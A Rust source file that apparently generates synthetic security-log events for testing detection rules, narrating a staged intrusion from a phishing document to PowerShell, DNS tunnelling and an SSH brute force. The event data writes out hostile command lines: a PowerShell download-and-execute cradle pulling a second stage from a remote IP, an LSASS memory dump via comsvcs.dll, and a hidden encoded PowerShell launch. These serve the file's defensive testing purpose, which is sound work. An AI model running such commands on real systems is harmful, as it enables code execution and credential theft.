//! The attack story woven into the demo traffic: a phishing document at the Acme clinic leads
//! to PowerShell, a download, credential dumping, lateral movement and DNS tunnelling; Globex
//! bank meanwhile gets an SSH brute force on root.
//!
//! Each step is a list of messages with the transport they travel on, and the ids of the
//! rules (in the repo's `rules/`) that should detect it.

use vigie_testkit::synth::{json_escape, rfc3339, windows_json};

/// Where a story message goes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Channel {
    /// Windows events of Acme, posted over HTTP.
    AcmeWindows,
    /// DNS resolver logs of Acme, posted over HTTP (logsource `//dns`).
    AcmeDns,
    /// Linux syslog of Globex, over UDP.
    GlobexSyslog,
}

/// One step of the story.
#[derive(Debug)]
pub(crate) struct Step {
    /// What happens.
    pub(crate) name: &'static str,
    /// When, as a fraction of the story's length.
    pub(crate) at: f64,
    /// The rules expected to fire (any of them counts).
    pub(crate) rules: &'static [&'static str],
}

/// The steps, in order.
pub(crate) const STEPS: [Step; 6] = [
    Step {
        name: "phishing document starts PowerShell (mutuelle, ws-0042)",
        at: 0.10,
        rules: &["5d0c6d21-7d0e-4f35-9a57-3f1c9e1b0a01"],
    },
    Step {
        name: "PowerShell downloads a second stage (mutuelle, ws-0042)",
        at: 0.20,
        rules: &["5d0c6d21-7d0e-4f35-9a57-3f1c9e1b0a02"],
    },
    Step {
        name: "LSASS memory dumped with comsvcs.dll (mutuelle, ws-0042)",
        at: 0.30,
        rules: &["5d0c6d21-7d0e-4f35-9a57-3f1c9e1b0a03"],
    },
    Step {
        name: "lateral movement with PsExec to srv-file01 (mutuelle)",
        at: 0.40,
        rules: &["5d0c6d21-7d0e-4f35-9a57-3f1c9e1b0a04"],
    },
    Step {
        name: "DNS tunnelling exfiltration from 10.1.0.42 (mutuelle)",
        at: 0.50,
        rules: &[
            "5d0c6d21-7d0e-4f35-9a57-3f1c9e1b0a05",
            "5d0c6d21-7d0e-4f35-9a57-3f1c9e1b0a06",
        ],
    },
    Step {
        name: "SSH brute force on root of srv-0007 (globex)",
        at: 0.60,
        rules: &["5d0c6d21-7d0e-4f35-9a57-3f1c9e1b0a08"],
    },
];

const HOST: &str = "ws-0042.corp.local";
const USER: &str = "j.martin";

fn sysmon_process(ts: &str, record: u64, image: &str, command: &str, parent: &str) -> String {
    let data = format!(
        r#""RuleName":"-","UtcTime":"{ts}","ProcessGuid":"{{6A3F1C2B-0000-0000-0000-{record:012X}}}","ProcessId":{},"Image":"{}","CommandLine":"{}","CurrentDirectory":"C:\\Users\\{USER}\\Documents\\","User":"CORP\\{USER}","IntegrityLevel":"Medium","ParentImage":"{}","ParentProcessId":4242"#,
        4000 + record % 1000,
        json_escape(image),
        json_escape(command),
        json_escape(parent),
    );
    windows_json(
        "Microsoft-Windows-Sysmon",
        1,
        ts,
        record,
        "Microsoft-Windows-Sysmon/Operational",
        HOST,
        &data,
    )
}

/// A label of `len` base32 characters derived from `n` (what a tunnelling tool encodes).
fn encoded_label(n: u64, len: usize) -> String {
    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut x = n.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            char::from(ALPHABET[(x % 32) as usize])
        })
        .collect()
}

/// The messages of step `index` at time `now` (nanoseconds).
pub(crate) fn messages(index: usize, now: i64) -> Vec<(Channel, String)> {
    let ts = rfc3339(now);
    let record = 900_000 + index as u64 * 10;
    let powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    match index {
        0 => vec![(
            Channel::AcmeWindows,
            sysmon_process(
                &ts,
                record,
                powershell,
                "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            ),
        )],
        1 => vec![(
            Channel::AcmeWindows,
            sysmon_process(
                &ts,
                record,
                powershell,
                "powershell.exe -NoP -C \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/stage2.ps1')\"",
                powershell,
            ),
        )],
        2 => vec![(
            Channel::AcmeWindows,
            sysmon_process(
                &ts,
                record,
                "C:\\Windows\\System32\\rundll32.exe",
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Users\\Public\\lsass.dmp full",
                powershell,
            ),
        )],
        3 => {
            let logon = windows_json(
                "Microsoft-Windows-Security-Auditing",
                4624,
                &ts,
                record,
                "Security",
                "srv-file01.corp.local",
                r#""SubjectUserSid":"S-1-0-0","TargetUserName":"administrator","TargetDomainName":"CORP","LogonType":3,"WorkstationName":"WS-0042","IpAddress":"10.1.0.42","IpPort":"49811","LogonProcessName":"NtLmSsp","AuthenticationPackageName":"NTLM""#,
            );
            let service = windows_json(
                "Service Control Manager",
                7045,
                &ts,
                record + 1,
                "System",
                "srv-file01.corp.local",
                r#""ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\PSEXESVC.exe","ServiceType":"user mode service","StartType":"demand start","AccountName":"LocalSystem""#,
            );
            vec![(Channel::AcmeWindows, logon), (Channel::AcmeWindows, service)]
        }
        4 => (0..30)
            .map(|i| {
                let line = format!(
                    r#"{{"timestamp":"{}","hostname":"dns-01","query":"{}.t.cdn-sync.net","query_type":"TXT","client_ip":"10.1.0.42","answer":"","rcode":"NOERROR","bytes":240,"latency_ms":31}}"#,
                    rfc3339(now + i * 100_000_000),
                    encoded_label(i as u64, 48)
                );
                (Channel::AcmeDns, line)
            })
            .collect(),
        5 => {
            let civil = vigie_event::Timestamp::from_nanos(now).to_civil(vigie_event::UtcOffset::UTC);
            let months = [
                "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
            ];
            let month = months[(civil.month.clamp(1, 12) - 1) as usize];
            (0..12)
                .map(|i| {
                    let line = format!(
                        "<38>{month} {:>2} {:02}:{:02}:{:02} srv-0007 sshd[{}]: Failed password for root from 198.51.100.23 port {} ssh2",
                        civil.day,
                        civil.hour,
                        civil.minute,
                        civil.second,
                        3100 + i,
                        40_000 + i * 7
                    );
                    (Channel::GlobexSyslog, line)
                })
                .collect()
        }
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use bytes::Bytes;
    use vigie_event::{Decoder, Origin, Source, SourceKind, TenantId};

    use super::*;

    #[test]
    fn every_story_message_decodes() {
        let t = TenantId::new("acme").unwrap();
        let mut d = Decoder::new(Origin::new(t, Source::new(SourceKind::Http, "story")));
        for i in 0..STEPS.len() {
            let messages = messages(i, 1_795_335_302_000_000_000);
            assert!(!messages.is_empty());
            for (channel, line) in messages {
                let bytes = Bytes::from(line.clone());
                let decoded = match channel {
                    Channel::GlobexSyslog => d.decode_syslog(bytes),
                    _ => d.decode_json(bytes),
                };
                decoded.unwrap_or_else(|e| panic!("{line}: {e}"));
            }
        }
    }
}
